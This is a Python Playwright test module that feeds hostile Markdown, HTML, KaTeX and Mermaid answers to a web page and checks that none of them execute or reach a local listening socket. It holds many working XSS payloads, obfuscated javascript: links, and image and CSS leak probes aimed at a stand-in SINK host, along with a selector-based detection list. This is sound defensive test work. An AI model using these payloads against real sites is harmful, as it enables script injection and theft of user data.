"""Hostile answers, and checks that they had no effect: a socket that must not be reached."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Self

from playwright.async_api import Dialog, Page

# Runs in the page before anything else does, and looks after every change of it.
GUARD = """
window.__found = [];
const forbidden = [
  "script:not([src^='/'])", "iframe", "object", "embed", "math:not(.katex math)", "form[action]", "link[href^='http']",
  "video", "audio", "picture", "source", "base", "meta[http-equiv=refresh]", "[ping]", "[srcdoc]", "[onerror]",
  "[onload]", "[onclick]", "[onmouseover]", "[onfocus]", "[ontoggle]", "[style*='url(']", "article svg a",
  "article svg image", "article svg foreignObject", "article style", "article input",
].join(",");
const schemes = new Set(["http:", "https:", "mailto:"]);
const look = () => {
  for (const one of document.querySelectorAll(forbidden)) window.__found.push(one.outerHTML.slice(0, 200));
  for (const link of document.querySelectorAll("article a[href]")) {
    if (!schemes.has(link.protocol)) window.__found.push(link.outerHTML.slice(0, 200));
  }
  for (const picture of document.querySelectorAll("img, image")) {
    if (!/^(\\/api\\/|blob:)/.test(picture.getAttribute("src") ?? "")) window.__found.push(picture.outerHTML);
  }
};
new MutationObserver(look).observe(document, { childList: true, subtree: true, attributes: true });
"""

MARKUP = """<script>window.__xss=1;fetch('SINK/a48')</script>
<img src=x onerror="window.__xss=1"> <img src="SINK/img">
<svg onload="window.__xss=1"><a xlink:href="javascript:window.__xss=1"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>
<iframe srcdoc="<script>parent.__xss=1</script>"></iframe> <ScRiPt>window.__xss=1</sCrIpT>
<a href="javascript:window.__xss=1">a</a> <details open ontoggle="window.__xss=1">d</details>

[one](javascript:window.__xss=1) [two](JaVaScRiPt:window.__xss=1) [three](java\tscript:window.__xss=1)
[four](&#106;avascript:window.__xss=1) [five](data:text/html,<script>window.__xss=1</script>)
[six](vbscript:msgbox(1)) [seven][ref] <javascript:window.__xss=1> <SINK/autolink> [eight](<javascript:alert(1)>)
![nine](javascript:window.__xss=1) [ten](\\x01javascript:window.__xss=1) [safe](https://example.org/safe)

[ref]: javascript:window.__xss=1

```html
<script>window.__xss=1</script><img src="SINK/fence">
"""
LEAKS = """![x](SINK/p?q=SECRET) ![y][pic] <img srcset="SINK/srcset 2x">
<picture><source srcset="SINK/source"></picture>
<video poster="SINK/poster" src="SINK/video"></video> <div style="background:url(SINK/css)">styled</div>
<link rel="prefetch" href="SINK/prefetch"> <link rel="icon" href="SINK/icon"> <a href="SINK/a" ping="SINK/ping">p</a>
<style>@import url(SINK/import); body { background: url(SINK/body) }</style> <object data="SINK/object"></object>
<meta http-equiv="refresh" content="0;url=SINK/refresh"> <base href="SINK/">
<input type=image src="SINK/input" autofocus>

| table ![t](SINK/table) |
|---|
| <img src="SINK/cell"> |

[pic]: SINK/reference
Source: SINK/cited-site
"""
FORMULAS = r"""Inline $\href{javascript:window.__xss=1}{click}$ and $\url{javascript:alert(1)}$ then

$$\includegraphics[height=1em]{SINK/katex.png}$$

$$\htmlData{x=1" onmouseover="window.__xss=1}{y} \htmlStyle{background:url(SINK/style)}{z} \htmlId{root}{w}$$

$$\def\a#1{#1#1#1#1#1#1#1#1}\def\b#1{\a{\a{\a{#1}}}}\def\c#1{\b{\b{\b{#1}}}}\c{\c{x}}$$

and the end of the formulas.
"""
DIAGRAMS = (
    """```mermaid
%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%
graph TD
  A["<img src=x onerror=window.__xss=1>"] --> B
  click A call alert()
  click B href "javascript:window.__xss=1"
  C@{ img: "SINK/mermaid.png" }
"""
    + "\n".join("-->".join(map(str, range(start, start + 51))) for start in range(0, 10_000, 50))
    + "\n```\nand the end of the diagram.\n"
)

WORKERS = "navigator.serviceWorker?.getRegistrations().then((all) => all.length)"


class Sink:
    """A listening socket that counts connections."""

    def __init__(self, page: bytes = b"") -> None:
        self.hits: list[str] = []
        self.url = ""
        self._page = page

    @classmethod
    @asynccontextmanager
    async def opened(cls, page: bytes = b"") -> AsyncIterator[Self]:
        sink = cls(page)
        server = await asyncio.start_server(sink._answer, "127.0.0.1", 0)
        sink.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
        async with server:
            yield sink

    def insert_sink(self, payload: str) -> str:
        return payload.replace("SINK", self.url)

    async def _answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        self.hits.append(head.split(b"\r\n")[0].decode())
        kind = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: "
        writer.write(kind + str(len(self._page)).encode() + b"\r\n\r\n" + self._page)
        await writer.drain()
        writer.close()


class HarmlessCheck:
    """Create one before the page navigates (`HarmlessCheck(page)`), and `await harmless.check()` at the end."""

    def __init__(self, page: Page) -> None:
        self._page = page
        self._dialogs: list[str] = []
        page.on("dialog", self._on_dialog)

    async def _on_dialog(self, dialog: Dialog) -> None:
        self._dialogs.append(dialog.message)
        await dialog.dismiss()

    async def check(self) -> None:
        assert await self._page.evaluate("window.__xss") is None
        assert await self._page.evaluate("window.__found") == []
        assert self._dialogs == []
        assert self._page.frames == [self._page.main_frame]
        assert await self._page.evaluate(WORKERS) in {0, None}
